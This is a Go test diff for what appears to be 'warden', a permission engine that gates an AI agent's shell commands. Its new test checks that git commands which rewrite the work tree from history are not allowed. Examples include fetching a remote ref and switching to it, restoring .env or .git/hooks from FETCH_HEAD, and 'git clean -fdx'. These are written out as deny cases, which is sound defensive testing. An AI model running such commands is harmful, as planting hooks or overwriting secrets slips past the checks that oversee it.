@@ -57,7 +57,12 @@ func sh(cmd string) warden.ToolCall { return bash(cmd) }
 
 func checkSound(t *testing.T, cases []soundCase) {
 	t.Helper()
-	e, dir := newEngine(t, allowListPolicy)
+	checkSoundPolicy(t, allowListPolicy, cases)
+}
+
+func checkSoundPolicy(t *testing.T, pol string, cases []soundCase) {
+	t.Helper()
+	e, dir := newEngine(t, pol)
 	for _, d := range []string{"src", ".git/hooks", "pkg/app", "pkg/evil/.git"} {
 		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
 			t.Fatal(err)
@@ -208,6 +213,53 @@ func TestSoundWritesThroughOptions(t *testing.T) {
 		{"ln -s link to protected", sh("ln -s .git g"), "deny"},
 		{"ln -sf .env", sh("ln -sf /tmp/x .env"), "deny"},
 		{"head --output? no such option", sh("head --frob .env"), "notAllow"},
+	})
+}
+
+// Commands that rewrite the work tree from history: with them allowed,
+// git fetch URL && git switch --detach FETCH_HEAD would put any content at
+// any tracked path (.env, .git/hooks through a checked-in link, CI files).
+// Which files they write is decided by commits warden cannot see, so they
+// are computed writes: never allowed by a rule; the forms that leave the
+// work tree alone stay allowed.
+func TestSoundWorkTreeFromHistory(t *testing.T) {
+	t.Parallel()
+	pol := strings.Replace(allowListPolicy, `"head *"]`, `"head *", "git switch *", "git checkout *",
+              "git stash *", "git reset *", "git restore *", "git pull *", "git merge *", "git clean *", "git rebase *",
+              "git cherry-pick *", "git revert *", "git fetch *"]`, 1)
+	checkSoundPolicy(t, pol, []soundCase{
+		{"switch detach FETCH_HEAD", sh("git fetch https://example.com/r main && git switch --detach FETCH_HEAD"), "notAllow"},
+		{"switch branch", sh("git switch other"), "notAllow"},
+		{"switch -c from a start point", sh("git switch -c x origin/evil"), "notAllow"},
+		{"checkout branch", sh("git checkout FETCH_HEAD"), "notAllow"},
+		{"checkout -b from a start point", sh("git checkout -b x FETCH_HEAD"), "notAllow"},
+		{"checkout REV -- .env", sh("git checkout FETCH_HEAD -- .env"), "deny"},
+		{"checkout -- .git", sh("git checkout -- .git/hooks/pre-commit"), "deny"},
+		{"checkout path without --", sh("git checkout .env"), "deny"},
+		{"restore .env", sh("git restore --source FETCH_HEAD .env"), "deny"},
+		{"restore -W -S", sh("git restore -S -W .env"), "deny"},
+		{"reset --hard", sh("git reset --hard FETCH_HEAD"), "notAllow"},
+		{"reset --keep", sh("git reset --keep HEAD~1"), "notAllow"},
+		{"soft reset then stash", sh("git reset --soft FETCH_HEAD && git stash"), "notAllow"},
+		{"stash pop", sh("git stash pop"), "notAllow"},
+		{"stash apply a commit", sh("git stash apply FETCH_HEAD"), "notAllow"},
+		{"pull", sh("git pull https://example.com/r main"), "notAllow"},
+		{"merge", sh("git merge FETCH_HEAD"), "notAllow"},
+		{"rebase", sh("git rebase FETCH_HEAD"), "notAllow"},
+		{"cherry-pick", sh("git cherry-pick FETCH_HEAD"), "notAllow"},
+		{"revert", sh("git revert HEAD"), "notAllow"},
+		{"clean -fdx deletes .env", sh("git clean -fdx"), "notAllow"},
+		// The forms that leave the work tree alone.
+		{"switch -c new", sh("git switch -c feature"), "allow"},
+		{"checkout -b new", sh("git checkout -b feature"), "allow"},
+		{"soft reset", sh("git reset --soft HEAD~1"), "allow"},
+		{"mixed reset of a path", sh("git reset HEAD src/a.go"), "allow"},
+		{"restore --staged", sh("git restore --staged src/a.go"), "allow"},
+		{"restore a src file", sh("git restore src/a.go"), "allow"},
+		{"checkout -- a src file", sh("git checkout -- src/a.go"), "allow"},
+		{"stash list", sh("git stash list"), "allow"},
+		{"stash show", sh("git stash show -p"), "allow"},
+		{"clean dry run", sh("git clean -n -d"), "allow"},
 	})
 }
 
